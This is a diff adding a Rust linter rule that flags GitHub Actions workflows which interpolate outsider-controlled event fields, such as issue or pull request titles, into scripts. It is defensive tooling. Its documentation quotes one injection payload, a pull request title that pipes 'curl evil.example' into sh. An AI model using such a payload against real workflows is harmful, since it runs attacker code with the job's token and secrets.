@@ -1,0 +1,241 @@
+//! Rule `script-injection`: a script contains an expression that outsiders can write.
+
+use std::collections::{HashMap, HashSet};
+
+use super::{Check, Rule};
+use crate::report::{Group, Level, RuleMeta, WorkflowPlace, WorkflowProblem};
+use crate::text::{Span, escape};
+use crate::workflow::{
+    Document, Job, Node, Step, StepEnv, TextSource, Uses, WorkflowSettings, shorten, sources,
+};
+
+pub(crate) static RULE: Rule = Rule {
+    meta: RuleMeta {
+        id: "script-injection",
+        group: Group::Workflow,
+        default_level: Level::Warn,
+        summary: "a script contains an expression that outsiders can write",
+        docs: r#"### What it checks
+
+No script, in `run` or in the input `script` of `actions/github-script`, contains an expression whose text outsiders choose. These
+are the values that GitHub lists as untrusted:
+
+- title and body of an issue, pull request, discussion, comment or review, before a change too (`changes.title.from`);
+- `github.head_ref`, and branch, label, default branch, description and homepage of the head of a pull request;
+- message, and name and address of author and committer, of the commits of a push;
+- title, branch, message and people of the run that started a `workflow_run`; names and titles of wiki pages.
+
+It also finds them through `env` (`${{ env.TITLE }}`), and inside of `toJSON(github.event)`. A value that cannot reach the script is
+not reported: in a comparison, in `contains()`, or as the condition of `&&`. Neither is one that no trigger of the workflow sets.
+
+### Why it matters
+
+The forge puts the value into the script before a shell reads it. A pull request with the title `"; curl evil.example | sh; "` runs
+that command, with the token and the secrets of the job.
+
+### Example
+
+Bad:
+
+```yaml
+on: issues
+permissions: {}
+jobs:
+  greet:
+    steps:
+      - run: echo "${{ github.event.issue.title }}"
+```
+
+Good:
+
+```yaml
+on: issues
+permissions: {}
+jobs:
+  greet:
+    steps:
+      - run: echo "$TITLE"
+        env:
+          TITLE: ${{ github.event.issue.title }}
+```
+
+### How to fix
+
+Set a variable in `env` of the step to the expression, and write the variable in the script, in double quotes. In
+`actions/github-script`, write `process.env.TITLE`, or `context.payload.issue.title` without an expression.
+
+Other tools call this `template-injection` (zizmor, for many more expressions) and `expression` (actionlint). The list is that of
+GitHub: "Secure use reference" and the queries `actions/code-injection` of CodeQL.
+
+### Settings
+
+```yaml
+workflows:
+  exempt:
+    - rule: script-injection
+      path: .github/workflows/greet.yml
+      reason: it runs only for members
+```
+"#,
+    },
+    check: Check::Workflow(check),
+};
+
+const PULL_REQUEST: &[&str] =
+    &["pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment"];
+const COMMENT: &[&str] =
+    &["issue_comment", "pull_request_review_comment", "commit_comment", "discussion_comment"];
+const CHANGE: &[&str] = &["issues", "pull_request", "pull_request_target", "discussion"];
+
+/// Values that outsiders write, each with the events that set it; `*` stands for any part. Source: docs.github.com,
+/// "Script injections", and `untrusted_event_properties.yml` of github/codeql.
+///
+/// What only people with write access choose is left out: the branch of a merge group, the path of a workflow.
+const UNTRUSTED: &[(&str, &[&str])] = &[
+    ("github.event.issue.title", &["issues", "issue_comment"]),
+    ("github.event.issue.body", &["issues", "issue_comment"]),
+    ("github.event.pull_request.title", PULL_REQUEST),
+    ("github.event.pull_request.body", PULL_REQUEST),
+    ("github.event.pull_request.head.ref", PULL_REQUEST),
+    ("github.event.pull_request.head.label", PULL_REQUEST),
+    ("github.event.pull_request.head.repo.default_branch", PULL_REQUEST),
+    ("github.event.pull_request.head.repo.description", PULL_REQUEST),
+    ("github.event.pull_request.head.repo.homepage", PULL_REQUEST),
+    ("github.head_ref", PULL_REQUEST),
+    ("github.event.discussion.title", &["discussion", "discussion_comment"]),
+    ("github.event.discussion.body", &["discussion", "discussion_comment"]),
+    ("github.event.comment.body", COMMENT),
+    ("github.event.review.body", &["pull_request_review"]),
+    ("github.event.review_comment.body", COMMENT),
+    ("github.event.changes.title.from", CHANGE),
+    ("github.event.changes.body.from", CHANGE),
+    ("github.event.changes.head.ref.from", CHANGE),
+    ("github.event.pages.*.page_name", &["gollum"]),
+    ("github.event.pages.*.title", &["gollum"]),
+    ("github.event.commits.*.message", &["push"]),
+    ("github.event.commits.*.author.email", &["push"]),
+    ("github.event.commits.*.author.name", &["push"]),
+    ("github.event.commits.*.committer.email", &["push"]),
+    ("github.event.commits.*.committer.name", &["push"]),
+    ("github.event.head_commit.message", &["push"]),
+    ("github.event.head_commit.author.email", &["push"]),
+    ("github.event.head_commit.author.name", &["push"]),
+    ("github.event.head_commit.committer.email", &["push"]),
+    ("github.event.head_commit.committer.name", &["push"]),
+    ("github.event.workflow_run.display_title", &["workflow_run"]),
+    ("github.event.workflow_run.head_branch", &["workflow_run"]),
+    ("github.event.workflow_run.head_commit.message", &["workflow_run"]),
+    ("github.event.workflow_run.head_commit.author.email", &["workflow_run"]),
+    ("github.event.workflow_run.head_commit.author.name", &["workflow_run"]),
+    ("github.event.workflow_run.head_commit.committer.email", &["workflow_run"]),
+    ("github.event.workflow_run.head_commit.committer.name", &["workflow_run"]),
+    ("github.event.workflow_run.head_repository.description", &["workflow_run"]),
+    ("github.event.workflow_run.pull_requests.*.head.ref", &["workflow_run"]),
+];
+
+/// Events whose payload is that of another event.
+const OF_ANY_EVENT: &[&str] = &["workflow_call"];
+
+const GITHUB_SCRIPT: &str = "actions/github-script";
+
+/// Expression that outsiders can write, and the variable through which a script gets it.
+struct Injected {
+    /// The value, as GitHub names it.
+    name: String,
+    /// Variable of `env` that holds it; `None` if the script names the value itself.
+    variable: Option<String>,
+}
+
+fn check(document: &Document, _: &WorkflowSettings) -> Vec<WorkflowProblem> {
+    let events: Vec<&str> = document.model.events().filter_map(Node::text).collect();
+    let root = document.model.workflow.as_deref();
+    let mut read: HashMap<Span, Vec<TextSource>> = HashMap::new();
+    let mut problems = Vec::new();
+    for job in &document.model.jobs {
+        for step in &job.steps {
+            let Some(script) = script(step) else { continue };
+            let found = read.entry(script.span).or_insert_with(|| sources(script.text().unwrap_or_default()));
+            let injected = injected(found, &StepEnv::new(step, job, root), &events);
+            let is_shell = step.uses.is_none();
+            problems.extend(injected.iter().map(|value| problem(document, job, script, value, is_shell)));
+        }
+    }
+    problems
+}
+
+/// Returns the script that a step runs.
+fn script(step: &Step) -> Option<&Node> {
+    let Some(clause) = &step.uses else { return step.node.get("run").map(AsRef::as_ref) };
+    let Uses::Repository(repository) = &clause.uses else { return None };
+    (repository.name == GITHUB_SCRIPT).then(|| step.input("script").map(AsRef::as_ref)).flatten()
+}
+
+/// Returns the values among those that reach a script which outsiders can write, each once.
+fn injected(found: &[TextSource], env: &StepEnv<'_>, events: &[&str]) -> Vec<Injected> {
+    let mut seen = HashSet::new();
+    let mut injected = Vec::new();
+    for source in found {
+        let direct = untrusted(source, events).map(|name| Injected { name, variable: None });
+        let through_env = || match source.path.as_slice() {
+            [context, variable] if context == "env" => {
+                let text = env.get_ignoring_case(variable)?;
+                let name = sources(text).iter().find_map(|source| untrusted(source, events))?;
+                Some(Injected { name, variable: Some(variable.clone()) })
+            }
+            _ => None,
+        };
+        injected.extend(direct.or_else(through_env).filter(|value| seen.insert(value.name.clone())));
+    }
+    injected
+}
+
+/// Returns the name of a value if outsiders can write it, or a part of it that becomes JSON.
+fn untrusted(source: &TextSource, events: &[&str]) -> Option<String> {
+    let happens = |of: &[&str]| {
+        events.is_empty() || events.iter().any(|event| of.contains(event) || OF_ANY_EVENT.contains(event))
+    };
+    let matches = |pattern: &str| {
+        let parts: Vec<&str> = pattern.split('.').collect();
+        let is_long_enough =
+            parts.len() == source.path.len() || source.is_json && parts.len() > source.path.len();
+        is_long_enough && source.path.iter().zip(parts).all(|(part, name)| name == "*" || part == name)
+    };
+    let is_untrusted = UNTRUSTED.iter().any(|(pattern, of)| matches(pattern) && happens(of));
+    is_untrusted.then(|| source.path.join("."))
+}
+
+fn problem(
+    document: &Document,
+    job: &Job,
+    script: &Node,
+    value: &Injected,
+    is_shell: bool,
+) -> WorkflowProblem {
+    let name = escape(shorten(&value.name).as_bytes());
+    let message = match &value.variable {
+        Some(variable) => format!(
+            "the script contains `env.{}` as text, which holds `{name}`: outsiders can write it",
+            escape(shorten(variable).as_bytes()).to_ascii_uppercase()
+        ),
+        None => format!("the script contains `{name}` as text, and outsiders can write it"),
+    };
+    let last = value.name.rsplit('.').find(|part| *part != "*").unwrap_or("value");
+    let variable = value.variable.as_deref().unwrap_or(last).to_ascii_uppercase().replace('-', "_");
+    let variable = escape(shorten(&variable).as_bytes());
+    let read = if is_shell { format!("\"${variable}\"") } else { format!("process.env.{variable}") };
+    let help = match &value.variable {
+        Some(_) => format!("write `{read}` in the script instead of the expression"),
+        None => {
+            format!(
+                "set `{variable}: ${{{{ {name} }}}}` under `env` of the step, and write `{read}` in the script"
+            )
+        }
+    };
+    let text = value.variable.as_ref().map_or(value.name.clone(), |variable| format!("env.{variable}"));
+    WorkflowProblem {
+        message,
+        help: Some(help),
+        notes: Vec::new(),
+        place: WorkflowPlace::new(document.span_within(script.span, &text), &job.id, &value.name),
+    }
+}
